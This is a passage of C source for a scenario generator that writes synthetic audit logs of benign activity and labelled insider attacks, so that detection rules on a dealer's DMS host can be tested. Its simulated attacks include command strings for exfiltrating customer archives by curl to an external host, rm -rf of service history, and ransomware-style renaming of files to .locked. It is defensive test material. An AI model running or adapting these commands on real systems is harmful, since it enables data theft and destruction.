		if (f->ds != DS_CUSTOMERS && f->ds != DS_HONEYTOKEN)
			continue;
		t = read_file(g, &l.s, &tar, f, t, f->size, 10 * KIB, &r) + MSEC;
		total += f->size + 512;
	}
	write_whole_run(g, &l.s, &tar, tarf, p->start + 45 * NS + 2 * MSEC, t, total, 10 * KIB,
			FL_WRITE, &r);
	t += 3 * NS;
	snprintf(args, sizeof(args), "gzip -9 %s", tarf);
	spawn(g, &l.s, l.s.shell_pid, u->uid, "gzip", "/usr/bin/gzip", args, t);
	t += rng_range(&r, 25, 60) * NS;
	snprintf(args, sizeof(args), "curl -s -T %s.gz https://files.example-share.net/up/%08x", tarf,
		 (unsigned)(rng_next(&r) & 0xffffffffu));
	curl = spawn(g, &l.s, l.s.shell_pid, u->uid, "curl", "/usr/bin/curl", args, t);
	emit_connect(g, &l.s, &curl, t + 4 * MSEC, DNS_SERVER, 53, 0);
	emit_connect(g, &l.s, &curl, t + 31 * MSEC, "203.0.113.66", 443, CONNECT_INPROGRESS);
	t += rng_range(&r, 60, 200) * NS;
	snprintf(args, sizeof(args), "rm -f %s.gz", tarf);
	spawn(g, &l.s, l.s.shell_pid, u->uid, "rm", "/usr/bin/rm", args, t);
	session_end(g, &l, t + 20 * NS, t + 20 * NS, &r);
}

static void plan_archive_upload(struct gen_state *g, struct rng *r)
{
	int ui = pick_user(r, SALES, FINANCE), d = attack_day(g, r, late_lo(g), g->days - 2,
							       is_workday_of, ui);
	uint64_t s = at(g, d, 15, 30) + rng_range(r, 0, 3600) * NS;

	add_plan(g, s, s + HOUR, render_archive_upload, ui, 0, "archive");
}

/* Someone opens the planted VIP list during the working day. */
static void render_honeytoken(struct gen_state *g, const struct plan *p)
{
	const struct user *u = &users[p->user];
	struct file *f = honeytoken(g);
	struct login l;
	struct proc less;
	struct rng r;
	char args[128];
	uint64_t t;

	rng_seed(&r, p->seed);
	t = p->start + rng_range(&r, 30, 90) * NS;
	session_begin(g, &l, u, p->addr, p->start, &r);
	snprintf(args, sizeof(args), "less %s", f->path);
	less = spawn(g, &l.s, l.s.shell_pid, u->uid, "less", "/usr/bin/less", args, t);
	t = page_file(g, &l.s, &less, f, t + 4 * MSEC, f->size, &r) + 10 * NS;
	session_end(g, &l, t > p->end ? t : p->end, t > p->end ? t : p->end, &r);
}

static void plan_honeytoken(struct gen_state *g, struct rng *r)
{
	int ui = pick_user(r, SALES, ADVISOR), d = attack_day(g, r, late_lo(g), g->days - 2,
							       is_workday_of, ui);
	uint64_t s = at(g, d, 10, 30) + rng_range(r, 0, 5400) * NS;

	add_plan(g, s, s + rng_range(r, 3, 12) * MINUTE, render_honeytoken, ui, 0, "honeytoken");
}

/* rm -rf of the service history, then every *.csv of the customers (the
 * honeytoken among them) renamed to .locked, after hours. */
static void render_destruction(struct gen_state *g, const struct plan *p)
{
	const struct user *u = &users[p->user];
	uint64_t t = p->start + 50 * NS;
	struct login l;
	struct proc rm;
	struct rng r;
	char asked[240];
	size_t i;

	rng_seed(&r, p->seed);
	session_begin(g, &l, u, p->addr, p->start, &r);
	rm = spawn(g, &l.s, l.s.shell_pid, u->uid, "rm", "/usr/bin/rm",
		   "rm -rf /srv/dms/service-history", t);
	for (i = 0; i < g->n_files; i++) {
		struct file *f = &g->files[i];

		if (f->ds != DS_SERVICE)
			continue;
		t += rng_range(&r, 40, 400) * 1000;
		emit_change(g, &l.s, &rm, t, "unlink", f->path, strrchr(f->path, '/') + 1, f);
	}
	{
		struct file dir = { .ds = DS_SERVICE };

		emit_change(g, &l.s, &rm, t + 100000, "rmdir", "/srv/dms/service-history",
			    "/srv/dms/service-history", &dir);
	}
	t += rng_range(&r, 5, 20) * NS;
	for (i = 0; i < g->n_files; i++) {
		struct file *f = &g->files[i];
		struct proc mv;
		char args[240];

		if (f->ds != DS_CUSTOMERS && f->ds != DS_HONEYTOKEN)
			continue;
		snprintf(args, sizeof(args), "mv %s %s.locked", f->path, f->path);
		mv = spawn(g, &l.s, l.s.shell_pid, u->uid, "mv", "/usr/bin/mv", args, t);
		snprintf(asked, sizeof(asked), "%s -> %s.locked", f->path, f->path);
		emit_change(g, &l.s, &mv, t + 400000, "rename", f->path, asked, f);
		t += rng_range(&r, 2, 6) * MSEC;
	}
	session_end(g, &l, t + 30 * NS, t + 30 * NS, &r);
}

static void plan_destruction(struct gen_state *g, struct rng *r)
{
	int ui = pick_user(r, ADVISOR, SALES), d = attack_day(g, r, late_lo(g), g->days - 2,
							       is_workday_of, ui);
	uint64_t s = at(g, d, 19, 40) + rng_range(r, 0, 1800) * NS;

	add_plan(g, s, s + HOUR, render_destruction, ui, 0, "destruction");
}

/* The rules (docs/rules.md) whose alert, about the attacker inside the
 * window, means the attack was seen for what it is. */
static const struct attack attacks[] = {
	{ "bulk-export", "bulk-read,off-hours,staging,enumeration",
	  "customer shards copied out at 2 a.m. from the user's workstation", HOUR,
	  plan_bulk_export },
	{ "slow-drip", "bulk-read,enumeration",
	  "an advisor's customer reads at 60 MiB a day for five days, under the 64 MiB cap", DAY,
	  plan_drip },
	{ "offhours-new-address", "off-hours,new-source",
	  "a login late on a day off from a new external address, a few look-ups", HOUR,
	  plan_offhours },
	{ "dms-new-dataset", "no-session,bulk-read,first-touch",
	  "the DMS service account reads the finance books it never reads, at night", HOUR,
	  plan_dms_finance },
	{ "dms-webshell", "no-session,staging,bulk-read,enumeration,honeytoken",
	  "sh and zip as the dms user, no session: customers zipped into the web root", HOUR,
	  plan_webshell },
	{ "archive-upload", "exfil-chain,staging,bulk-read,enumeration,honeytoken",
	  "tar of customers, gzip, curl to an external address", HOUR, plan_archive_upload },
	{ "honeytoken", "honeytoken", "the planted VIP list opened with less", HOUR,
	  plan_honeytoken },
	{ "destruction", "destruction,honeytoken",
	  "rm -rf of the service history, customer files renamed .locked", HOUR,
	  plan_destruction },
};

#define N_ATTACKS (sizeof(attacks) / sizeof(attacks[0]))

/* ---- driving ------------------------------------------------------------- */

static int cmp_plan(const void *a, const void *b)
{
	const struct plan *x = a, *y = b;

	if (x->start != y->start)
		return x->start < y->start ? -1 : 1;
	return 0;
}

static int cmp_line(const void *a, const void *b)
{
	const struct line *x = a, *y = b;

	if (x->t != y->t)
		return x->t < y->t ? -1 : 1;
	return x->seq < y->seq ? -1 : x->seq > y->seq;
}

static void format_uuid(char *out, size_t n, struct rng *r)
{
	uint64_t a = rng_next(r), b = rng_next(r);

	snprintf(out, n, "%08x-%04x-4%03x-%04x-%012llx", (unsigned)(a >> 32),
		 (unsigned)(a >> 16) & 0xffff, (unsigned)a & 0xfff,
		 (unsigned)(0x8000 | ((b >> 48) & 0x3fff)), (unsigned long long)(b & 0xffffffffffffULL));
}

static int boot_init(struct boot *b, uint64_t start, struct rng *r)
{
	memset(b, 0, sizeof(*b));
	b->pids = calloc(PID_LIMIT / 8, 1);
	if (!b->pids)
		return -1;
	format_uuid(b->id, sizeof(b->id), r);
	b->start_ns = start;
	b->next_audit = 1 + (uint32_t)rng_range(r, 0, 2);
	/* started by systemd during boot */
	b->pids[812 / 8] |= 1u << (812 % 8);
	b->pids[PIIWATCHD_PID / 8] |= 1u << (PIIWATCHD_PID % 8);
	b->pids[(PIIWATCHD_PID - 3) / 8] |= 1u << ((PIIWATCHD_PID - 3) % 8);
	b->dms_pid = 812;
	b->cron_pid = 573;
	b->sshd_pid = 655;
	return 0;
}

struct options {
	uint64_t seed;
	int days;
	char start[16];
	int utc_offset_h;
	const char *dir;
};

/* Set up the host, plan the month (and the attack), render every plan in
 * order and leave the lines sorted in g. */
static int generate(struct gen_state *g, const struct options *o, const struct attack *atk)
{
	struct tm tm = { 0 };
	struct rng r;
	size_t i;
	int d, w;

	memset(g, 0, sizeof(*g));
	g->seed = o->seed;
	g->days = o->days;
	g->utc_offset_h = o->utc_offset_h;
	if (sscanf(o->start, "%4d-%2d-%2d", &tm.tm_year, &tm.tm_mon, &tm.tm_mday) != 3)
		return -1;
	tm.tm_year -= 1900;
	tm.tm_mon -= 1;
	g->day0_ns = (uint64_t)timegm(&tm) * NS - (uint64_t)((int64_t)o->utc_offset_h * 3600) * NS;
	g->wday0 = tm.tm_wday;
	g->mday0 = tm.tm_mday;
	g->month0 = (tm.tm_year - 100) * 12 + tm.tm_mon;

	rng_seed(&r, derive_seed(o->seed, "host", 0));
	/* Patch Sunday: the first Sunday in the second half of the month. */
	g->reboot_day = -1;
	for (d = g->days / 2; d < g->days - 1; d++)
		if (weekday(g, d) == 0) {
			g->reboot_day = d;
			break;
		}
	if (boot_init(&g->boots[0], g->day0_ns - 19 * DAY - rng_range(&r, 0, 3600) * NS, &r))
		return -1;
	g->n_boots = 1;
	if (g->reboot_day >= 0) {
		if (boot_init(&g->boots[1], at(g, g->reboot_day, 4, 0) + 31 * NS, &r))
			return -1;
		g->n_boots = 2;
	}
	/* The pids and audit sessions used before day 0. */
	g->boots[0].next_audit += (uint32_t)(19 * 30 + rng_range(&r, 0, 200));
	for (i = 0; i < 900; i++)
		pid_at(g, g->day0_ns - NS);
	g->next_session_row = (int64_t)rng_range(&r, 400, 900);
	make_files(g, &r);
	g->last_backup = g->day0_ns - 22 * HOUR;
	for (i = 0; i < N_USERS; i++) {
		w = (int)rng_range(&r, 1, 5);
		if (users[i].role != FINANCE && users[i].role != ADMIN)
			users[i].day_off = w;
	}
	users[NEW_HIRE].first_day = g->days / 3;
	while (weekday(g, users[NEW_HIRE].first_day) != 1)
		users[NEW_HIRE].first_day++;
	users[NEW_HIRE].day_off = 3;

	g->read_day = calloc(N_USERS * (size_t)g->days * DS_HONEYTOKEN, sizeof(*g->read_day));
	if (!g->read_day)
		return -1;
	plan_benign(g);
	if (atk) {
		struct rng ar;
		size_t first = g->n_plans;

		rng_seed(&ar, derive_seed(o->seed, atk->name, 1));
		atk->plan(g, &ar);
		for (i = first; i < g->n_plans; i++)
			g->plans[i].attack = true;
	}
	if (g->oom)
		return -1;
	qsort(g->plans, g->n_plans, sizeof(g->plans[0]), cmp_plan);
	for (i = 0; i < g->n_plans; i++) {
		const struct plan *p = &g->plans[i];

		g->in_attack = p->attack;
		if (p->attack && p->user >= 0)
			snprintf(g->label.user, sizeof(g->label.user), "%s", users[p->user].name);
		else if (p->attack)
			snprintf(g->label.user, sizeof(g->label.user), "dms");
		p->render(g, p);
	}
	g->in_attack = false;
	if (g->oom)
		return -1;
	qsort(g->lines, g->n_lines, sizeof(g->lines[0]), cmp_line);
	return 0;
}

static void release(struct gen_state *g)
{
	size_t i;
	int b;

	for (i = 0; i < g->n_lines; i++)
		free(g->lines[i].text);
	free(g->lines);
	free(g->plans);
	free(g->files);
	free(g->read_day);
	for (b = 0; b < g->n_boots; b++)
		free(g->boots[b].pids);
	memset(g, 0, sizeof(*g));
}

static int write_lines(const struct gen_state *g, const char *dir, const char *name)
{
	char path[4096];
	FILE *f;
	size_t i;
	int rc = 0;

	snprintf(path, sizeof(path), "%s/%s.jsonl", dir, name);
	f = fopen(path, "w");
	if (!f) {
		fprintf(stderr, "pw-scenario-gen: %s: %s\n", path, strerror(errno));
		return -1;
	}
	for (i = 0; i < g->n_lines; i++)
		if (fputs(g->lines[i].text, f) == EOF || fputc('\n', f) == EOF)
			rc = -1;
	if (fclose(f) || rc) {
		fprintf(stderr, "pw-scenario-gen: %s: write failed\n", path);
		return -1;
	}
	return 0;
}

static void format_utc(uint64_t ns, char *out, size_t n)
{
	time_t t = (time_t)(ns / NS);
	struct tm tm;

	gmtime_r(&t, &tm);
	snprintf(out, n, "%04d-%02d-%02dT%02d:%02d:%02d.%09lluZ", tm.tm_year + 1900, tm.tm_mon + 1,
		 tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec, (unsigned long long)(ns % NS));
}

static int write_policy(const char *dir)
{
	char path[4096];
	FILE *f;

	snprintf(path, sizeof(path), "%s/policy.conf", dir);
	f = fopen(path, "w");
	if (!f) {
		fprintf(stderr, "pw-scenario-gen: %s: %s\n", path, strerror(errno));
		return -1;
	}
	/* What the dealer's administrator would write: the DMS server, its
	 * report generator and the backup are the programs that read the
	 * data without a person behind each read; the dealer is open Monday
	 * to Saturday; the LAN and the manufacturer's API are trusted. */
	fprintf(f, "# The policy of the scenario host dms01 (tests/scenarios/README.md).\n"
		   "[dataset customers]\n"
		   "path = /srv/dms/customers\n"
		   "allow = /usr/sbin/dms-server\n"
		   "allow = /usr/bin/restic\n"
		   "\n"
		   "[dataset service-history]\n"
		   "path = /srv/dms/service-history\n"
		   "allow = /usr/sbin/dms-server\n"
		   "allow = /usr/bin/restic\n"
		   "\n"
		   "[dataset finance]\n"
		   "path = /srv/dms/finance\n"
		   "allow = /usr/local/bin/dms-report\n"
		   "allow = /usr/bin/restic\n"
		   "\n"
		   "[honeytokens]\n"
		   "path = /srv/dms/customers/zz_vip_customers.csv\n"
		   "\n"
		   "[hours]\n"
		   "working = Mon-Sat 08:00-20:00\n"
		   "\n"
		   "[networks]\n"
		   "trusted = 10.20.0.0/16\n"
		   "trusted = " MAKER_API "/32\n");
	return fclose(f) ? -1 : 0;
}

static void usage(FILE *out)
{
	fprintf(out, "usage: pw-scenario-gen [--seed N] [--days N] [--start YYYY-MM-DD] "
		     "[--utc-offset H] DIR\n"
		     "       pw-scenario-gen --list\n");
}

static int parse_args(int argc, char **argv, struct options *o, bool *list)
{
	static const struct option longopts[] = {
		{ "seed", required_argument, NULL, 's' },
		{ "days", required_argument, NULL, 'd' },
		{ "start", required_argument, NULL, 'S' },
		{ "utc-offset", required_argument, NULL, 'u' },
		{ "list", no_argument, NULL, 'l' },
		{ "help", no_argument, NULL, 'h' },
		{ NULL, 0, NULL, 0 },
	};
	uint64_t v;
	int c;

	*list = false;
	while ((c = getopt_long(argc, argv, "", longopts, NULL)) != -1) {
		switch (c) {
		case 's':
			if (pw_parse_u64(optarg, UINT64_MAX - 1, &o->seed))
				goto bad;
			break;
		case 'd':
			if (pw_parse_u64(optarg, 366, &v) || v < MIN_DAYS)
				goto bad;
			o->days = (int)v;
			break;
		case 'S': {
			int y, m, d;
			char end;

			if (strlen(optarg) != 10 ||
			    sscanf(optarg, "%4d-%2d-%2d%c", &y, &m, &d, &end) != 3 || y < 2001 ||
			    y > 2099 || m < 1 || m > 12 || d < 1 || d > 31)
				goto bad;
			snprintf(o->start, sizeof(o->start), "%s", optarg);
			break;
		}
		case 'u':
			if (pw_parse_u64(optarg, 14, &v))
				goto bad;
			o->utc_offset_h = (int)v;
			break;
		case 'l':
			*list = true;
			return 0;
		case 'h':
			usage(stdout);
			exit(0);
		default:
			goto bad;
		}
	}
	if (optind != argc - 1)
		goto bad;
	o->dir = argv[optind];
	return 0;
bad:
	if (c != '?' && c != -1)
		fprintf(stderr, "pw-scenario-gen: bad value '%s' (--days: %d-366, --utc-offset: "
				"0-14, --start: YYYY-MM-DD)\n",
			optarg, MIN_DAYS);
	usage(stderr);
	return -1;
}

int main(int argc, char **argv)
{
	struct options o = { .seed = 1, .days = 30, .start = "2026-11-01", .utc_offset_h = 9 };
	struct gen_state g;
	char path[4096], t1[48], t2[48];
	FILE *labels = NULL;
	bool list;
	size_t a;
	int i, rc = 1;

	if (parse_args(argc, argv, &o, &list))
		return 2;
	if (list) {
		for (a = 0; a < N_ATTACKS; a++)
			printf("%-22s %s\n", attacks[a].name, attacks[a].what);
		return 0;
	}
	if (mkdir(o.dir, 0755) && errno != EEXIST) {
		fprintf(stderr, "pw-scenario-gen: %s: %s\n", o.dir, strerror(errno));
		return 1;
	}
	if (write_policy(o.dir))
		return 1;
	if (generate(&g, &o, NULL) || write_lines(&g, o.dir, "benign"))
		goto cleanup;
	release(&g);
	snprintf(path, sizeof(path), "%s/labels.tsv", o.dir);
	labels = fopen(path, "w");
	if (!labels) {
		fprintf(stderr, "pw-scenario-gen: %s: %s\n", path, strerror(errno));
		return 1;
	}
	fprintf(labels, "# pw-scenario-gen seed=%llu days=%d start=%s utc_offset=%d\n"
			"# attack\twindow_start\twindow_end\tuser\taudit_sessions\tacceptable_rules\t"
			"what\n",
		(unsigned long long)o.seed, o.days, o.start, o.utc_offset_h);
	for (a = 0; a < N_ATTACKS; a++) {
		if (generate(&g, &o, &attacks[a]) || write_lines(&g, o.dir, attacks[a].name))
			goto cleanup;
		format_utc(g.label.first, t1, sizeof(t1));
		format_utc(g.label.last + attacks[a].grace, t2, sizeof(t2));
		fprintf(labels, "%s\t%s\t%s\t%s\t", attacks[a].name, t1, t2, g.label.user);
		for (i = 0; i < g.label.n_sessions; i++)
			fprintf(labels, "%s%u", i ? "," : "", g.label.sessions[i]);
		fprintf(labels, "%s\t%s\t%s\n", g.label.n_sessions ? "" : "-", attacks[a].rules,
			attacks[a].what);
		release(&g);
	}
	rc = 0;
cleanup:
	if (rc) {
		fprintf(stderr, "pw-scenario-gen: %s\n", g.oom ? "out of memory" : "failed");
		release(&g);
	}
	if (labels && fclose(labels)) {
		fprintf(stderr, "pw-scenario-gen: labels.tsv: write failed\n");
		rc = 1;
	}
	return rc;
}
